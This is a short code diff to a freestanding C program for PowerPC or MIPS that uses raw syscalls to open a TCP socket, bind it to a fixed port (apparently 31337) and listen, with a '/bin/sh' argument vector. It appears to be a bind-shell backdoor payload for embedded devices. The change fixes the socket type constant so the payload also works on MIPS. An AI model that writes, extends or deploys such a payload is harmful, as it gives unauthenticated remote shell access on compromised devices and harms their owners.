@@ -37,6 +37,12 @@ static inline __attribute__((always_inline)) long sys3(long n, long a, long b, l
 #error "PowerPC or MIPS only"
 #endif
 
+#if defined(__mips__)
+#define STREAM 2 /* MIPS numbers SOCK_STREAM 2, SOCK_DGRAM 1 */
+#else
+#define STREAM 1
+#endif
+
 static const char sh[] = "/bin/sh";
 
 void _start(void)
@@ -47,7 +53,7 @@ void _start(void)
 		unsigned char zero[8];
 	} a = { 2, 0x697a, 0, { 0 } };
 	const char *argv[] = { sh, 0 };
-	long s = sys3(__NR_socket, 2, 1, 0), c;
+	long s = sys3(__NR_socket, 2, STREAM, 0), c;
 	sys3(__NR_bind, s, (long)&a, sizeof(a));
 	sys3(__NR_listen, s, 1, 0);
 	for (;;) {
